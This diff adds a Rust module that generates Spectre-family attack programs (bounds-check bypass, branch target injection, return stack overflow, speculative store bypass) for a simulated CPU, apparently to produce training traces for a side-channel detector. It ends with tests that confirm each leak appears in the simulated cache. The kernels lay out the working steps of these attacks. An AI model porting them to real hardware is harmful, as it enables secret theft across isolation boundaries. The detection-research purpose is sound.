@@ -1,0 +1,345 @@
+//! Spectre-family kernels: PHT (v1), BTB (v2), RSB, and STL (v4 /
+//! speculative store bypass).
+//!
+//! Each kernel performs the canonical phases (paper §II): flush the guard,
+//! mistrain the predicting structure, transiently access out-of-bounds data,
+//! and transmit it through a cache probe line — so the HPC footprint carries
+//! the speculative-squash + value-dependent-cache signature the detector
+//! learns.
+
+use evax_sim::isa::{AluOp, Cond, Program, ProgramBuilder};
+use rand::Rng;
+
+use crate::common::{emit_decoys, emit_delay, layout, regs, KernelParams};
+
+/// Spectre-PHT (bounds-check bypass): mistrains the conditional predictor,
+/// then leaks `array1[64]` through `PROBE + secret * stride`.
+pub fn spectre_pht(p: &KernelParams, rng: &mut impl Rng) -> Program {
+    let (ra1, rsz, rpr, idx, tmp, sec, paddr, it) = (
+        regs::attack(0),
+        regs::attack(1),
+        regs::attack(2),
+        regs::attack(3),
+        regs::attack(4),
+        regs::attack(5),
+        regs::attack(6),
+        regs::attack(7),
+    );
+    let mut b = ProgramBuilder::new("spectre-pht");
+    b.li(ra1, layout::ARRAY1);
+    b.li(rpr, layout::PROBE);
+    // Victim setup: bounds variable and the "secret" beyond them.
+    b.li(tmp, 16);
+    b.li(idx, layout::SIZE_ADDR);
+    b.store(tmp, idx, 0);
+    b.li(tmp, layout::DEFAULT_SECRET ^ (p.seed & 0x7));
+    b.store(tmp, ra1, 64);
+    // Warm the secret's line so the transient read is fast.
+    b.load(tmp, ra1, 64);
+    let rounds = regs::attack(8);
+    crate::common::emit_loop(&mut b, rounds, p.iterations as u64, |b| {
+        // ---- mistrain: in-bounds accesses teach fall-through ----
+        crate::common::emit_loop(b, it, p.train_iters as u64, |b| {
+            b.li(idx, 1);
+            b.li(tmp, layout::SIZE_ADDR);
+            b.load(rsz, tmp, 0);
+            let skip = b.forward_label();
+            b.branch(Cond::Ge, idx, rsz, skip);
+            b.load(sec, ra1, 0);
+            b.bind(skip);
+        });
+        // ---- attack round ----
+        b.li(tmp, layout::SIZE_ADDR);
+        b.flush(tmp, 0); // the bounds check must resolve late
+        b.load(rsz, tmp, 0);
+        b.li(idx, 64); // out of bounds
+        let skip = b.forward_label();
+        b.branch(Cond::Ge, idx, rsz, skip);
+        b.alu(AluOp::Add, paddr, ra1, idx);
+        b.load(sec, paddr, 0);
+        b.alu_imm(AluOp::Mul, sec, sec, 0); // keep register clean across rounds
+        b.load(sec, paddr, 0);
+        b.alu_imm(AluOp::Shl, sec, sec, 6);
+        b.alu(AluOp::Add, paddr, rpr, sec);
+        b.load(tmp, paddr, 0); // transmit
+        b.bind(skip);
+        // ---- recover: reload probe lines (Flush+Reload receiver) ----
+        b.rdcycle(regs::decoy(4));
+        b.load(tmp, rpr, 0);
+    });
+    emit_decoys(&mut b, p.decoy_ops, rng);
+    emit_delay(&mut b, p.delay_ops);
+    b.halt();
+    b.build()
+}
+
+/// Spectre-BTB (branch target injection): trains an indirect jump's BTB
+/// entry toward a gadget, then transiently executes the gadget with a
+/// secret-selecting index while architecturally jumping elsewhere.
+pub fn spectre_btb(p: &KernelParams, rng: &mut impl Rng) -> Program {
+    let (ra1, rpr, idx, sec, tgt, tmp, it) = (
+        regs::attack(0),
+        regs::attack(1),
+        regs::attack(2),
+        regs::attack(3),
+        regs::attack(4),
+        regs::attack(5),
+        regs::attack(6),
+    );
+    let rounds = regs::attack(7);
+    let gpc = regs::attack(8); // gadget address
+    let bpc = regs::attack(9); // benign-target address
+    let ret_reg = regs::attack(10); // indirect return address
+    let one = regs::attack(11);
+    let mut b = ProgramBuilder::new("spectre-btb");
+    b.li(ra1, layout::ARRAY1);
+    b.li(rpr, layout::PROBE);
+    b.li(one, 1);
+    b.li(tmp, layout::DEFAULT_SECRET ^ (p.seed & 0x7));
+    b.store(tmp, ra1, 64);
+    b.load(tmp, ra1, 64); // warm
+    let after = b.forward_label();
+    b.jmp(after);
+    // ---- gadget: probe-touch selected by idx, return indirectly ----
+    let gadget_idx = b.here();
+    b.alu(AluOp::Add, tmp, ra1, idx);
+    b.load(sec, tmp, 0);
+    b.alu_imm(AluOp::Shl, sec, sec, 6);
+    b.alu(AluOp::Add, tmp, rpr, sec);
+    b.load(tmp, tmp, 0);
+    b.jmp_ind(ret_reg);
+    // ---- benign target ----
+    let benign_idx = b.here();
+    b.alu_imm(AluOp::Add, regs::decoy(5), regs::decoy(5), 1);
+    b.jmp_ind(ret_reg);
+    b.bind(after);
+    b.li(gpc, gadget_idx as u64);
+    b.li(bpc, benign_idx as u64);
+    // The BTB is tagged by the jump's own pc, so training and attack MUST go
+    // through the same static `jmp_ind` — exactly how real branch-target
+    // injection works (the attacker executes the victim's jump from a
+    // congruent context).
+    crate::common::emit_loop(&mut b, rounds, p.iterations as u64, |b| {
+        crate::common::emit_loop(b, it, p.train_iters.max(1) as u64 + 1, |b| {
+            let attack = b.forward_label();
+            let join = b.forward_label();
+            let limit = regs::decoy(7);
+            b.li(limit, p.train_iters.max(1) as u64);
+            b.branch(Cond::Ge, it, limit, attack);
+            // train iteration: jump to the gadget with a harmless index
+            b.li(idx, 0);
+            b.alu(AluOp::Add, tgt, gpc, evax_sim::isa::Reg::ZERO);
+            b.jmp(join);
+            b.bind(attack);
+            // attack iteration: benign target computed slowly, secret index —
+            // the BTB still predicts the gadget
+            b.li(idx, 64);
+            b.alu(AluOp::Add, tgt, bpc, evax_sim::isa::Reg::ZERO);
+            for _ in 0..4 {
+                b.alu(AluOp::Mul, tgt, tgt, one);
+            }
+            b.bind(join);
+            let cont = b.here() + 2;
+            b.li(ret_reg, cont as u64);
+            b.jmp_ind(tgt);
+        });
+    });
+    emit_decoys(&mut b, p.decoy_ops, rng);
+    emit_delay(&mut b, p.delay_ops);
+    b.halt();
+    b.build()
+}
+
+/// Spectre-RSB: overflows the 16-entry RAS with a 17-deep call chain; the
+/// outermost return's prediction is then stale/empty and transiently
+/// executes the gadget placed on its fall-through path.
+pub fn spectre_rsb(p: &KernelParams, rng: &mut impl Rng) -> Program {
+    let (ra1, rpr, sec, tmp) = (
+        regs::attack(0),
+        regs::attack(1),
+        regs::attack(2),
+        regs::attack(3),
+    );
+    let depth = 18usize; // RAS holds 16
+    let mut b = ProgramBuilder::new("spectre-rsb");
+    b.li(ra1, layout::ARRAY1);
+    b.li(rpr, layout::PROBE);
+    b.li(tmp, layout::DEFAULT_SECRET ^ (p.seed & 0x7));
+    b.store(tmp, ra1, 64);
+    b.load(tmp, ra1, 64); // warm
+    let fns: Vec<_> = (0..depth).map(|_| b.forward_label()).collect();
+    let done = b.forward_label();
+    let rounds = regs::attack(7);
+    crate::common::emit_loop(&mut b, rounds, p.iterations as u64, |b| {
+        b.call(fns[0]);
+    });
+    b.jmp(done);
+    // Chain: f_i calls f_{i+1} then returns; the last one just returns.
+    // A flushed (slow) load before each `ret` keeps the return from
+    // committing immediately, holding the transient window open while the
+    // wrong-path gadget executes.
+    let slow = regs::attack(5);
+    let slow_addr = regs::attack(6);
+    for (i, f) in fns.iter().enumerate() {
+        b.bind(*f);
+        if i + 1 < depth {
+            b.call(fns[i + 1]);
+            b.li(slow_addr, layout::SCRATCH + 0x8_0000 + (i as u64) * 64);
+            b.flush(slow_addr, 0);
+            b.load(slow, slow_addr, 0);
+            b.ret();
+            // Fall-through gadget of this `ret`: when the RAS underflows the
+            // prediction is pc+1, transiently executing this block.
+            b.load(sec, ra1, 64);
+            b.alu_imm(AluOp::Shl, sec, sec, 6);
+            b.alu(AluOp::Add, tmp, rpr, sec);
+            b.load(tmp, tmp, 0);
+            b.nop();
+        } else {
+            b.ret();
+        }
+    }
+    b.bind(done);
+    emit_decoys(&mut b, p.decoy_ops, rng);
+    emit_delay(&mut b, p.delay_ops);
+    b.halt();
+    b.build()
+}
+
+/// Spectre-STL (v4, speculative store bypass): a load issues before an
+/// older store to the same address whose address resolves slowly, reading
+/// the *stale* secret and transmitting it before the order violation
+/// squashes.
+pub fn spectre_stl(p: &KernelParams, rng: &mut impl Rng) -> Program {
+    let (rx, rpr, slow, val, y, tmp, one) = (
+        regs::attack(0),
+        regs::attack(1),
+        regs::attack(2),
+        regs::attack(3),
+        regs::attack(4),
+        regs::attack(5),
+        regs::attack(6),
+    );
+    let x = layout::VICTIM + 0x100;
+    let mut b = ProgramBuilder::new("spectre-stl");
+    b.li(rpr, layout::PROBE);
+    b.li(rx, x);
+    b.li(one, 1);
+    // Plant the stale secret architecturally.
+    b.li(val, layout::DEFAULT_SECRET ^ (p.seed & 0x7));
+    b.store(val, rx, 0);
+    b.fence();
+    let rounds = regs::attack(7);
+    crate::common::emit_loop(&mut b, rounds, p.iterations as u64, |b| {
+        // Slow-compute the store address.
+        b.li(slow, x);
+        for _ in 0..4 {
+            b.alu(AluOp::Mul, slow, slow, one);
+        }
+        b.li(val, 0);
+        b.store(val, slow, 0); // scrubs the secret — architecturally
+        b.load(y, rx, 0); // bypasses the store, reads stale secret
+        b.alu_imm(AluOp::Shl, y, y, 6);
+        b.alu(AluOp::Add, tmp, rpr, y);
+        b.load(tmp, tmp, 0); // transmit before the violation squash
+                             // Re-plant for the next round.
+        b.li(val, layout::DEFAULT_SECRET ^ (p.seed & 0x7));
+        b.store(val, rx, 0);
+        b.fence();
+    });
+    emit_decoys(&mut b, p.decoy_ops, rng);
+    emit_delay(&mut b, p.delay_ops);
+    b.halt();
+    b.build()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use evax_sim::{Cpu, CpuConfig};
+    use rand::SeedableRng;
+
+    fn run(p: &Program) -> Cpu {
+        let mut cpu = Cpu::new(CpuConfig::default());
+        let res = cpu.run(p, 500_000);
+        assert!(res.halted, "kernel {} must halt", p.name());
+        cpu
+    }
+
+    fn probe_line(seed: u64) -> u64 {
+        layout::PROBE + (layout::DEFAULT_SECRET ^ (seed & 0x7)) * 64
+    }
+
+    #[test]
+    fn pht_leaks_secret_line() {
+        let mut rng = rand::rngs::StdRng::seed_from_u64(0);
+        let p = spectre_pht(&KernelParams::default(), &mut rng);
+        let cpu = run(&p);
+        assert!(
+            cpu.dcache().contains(probe_line(0)) || cpu.l2().contains(probe_line(0)),
+            "missing transient footprint"
+        );
+        assert!(cpu.stats().lsq_squashed_loads > 0);
+        assert!(cpu.stats().bp_cond_incorrect > 0);
+    }
+
+    #[test]
+    fn btb_mistraining_mispredicts_indirect() {
+        let mut rng = rand::rngs::StdRng::seed_from_u64(1);
+        let p = spectre_btb(&KernelParams::default(), &mut rng);
+        let cpu = run(&p);
+        assert!(cpu.stats().bp_btb_lookups > 0);
+        assert!(
+            cpu.stats().bp_indirect_mispredicted > 0,
+            "BTB injection requires indirect mispredicts"
+        );
+        let target = probe_line(0); // KernelParams::default().seed == 0
+        assert!(
+            cpu.dcache().contains(target) || cpu.l2().contains(target),
+            "gadget footprint missing"
+        );
+    }
+
+    #[test]
+    fn rsb_overflow_mispredicts_returns() {
+        let mut rng = rand::rngs::StdRng::seed_from_u64(2);
+        let p = spectre_rsb(&KernelParams::default(), &mut rng);
+        let cpu = run(&p);
+        assert!(cpu.stats().bp_used_ras > 0);
+        assert!(
+            cpu.stats().bp_ras_incorrect > 0,
+            "RAS must mispredict on overflow"
+        );
+        let target = probe_line(0);
+        assert!(
+            cpu.dcache().contains(target) || cpu.l2().contains(target),
+            "RSB gadget footprint missing"
+        );
+    }
+
+    #[test]
+    fn stl_bypass_leaks_and_violates() {
+        let mut rng = rand::rngs::StdRng::seed_from_u64(3);
+        let p = spectre_stl(&KernelParams::default(), &mut rng);
+        let cpu = run(&p);
+        assert!(cpu.stats().iew_mem_order_violations > 0, "no store bypass");
+        let target = probe_line(0);
+        assert!(
+            cpu.dcache().contains(target) || cpu.l2().contains(target),
+            "STL stale-value footprint missing"
+        );
+    }
+
+    #[test]
+    fn kernels_respect_decoy_and_delay_params() {
+        let mut rng = rand::rngs::StdRng::seed_from_u64(4);
+        let p = KernelParams {
+            decoy_ops: 16,
+            delay_ops: 16,
+            ..Default::default()
+        };
+        let prog = spectre_pht(&p, &mut rng);
+        let plain = spectre_pht(&KernelParams::default(), &mut rng);
+        assert!(prog.len() > plain.len());
+    }
+}
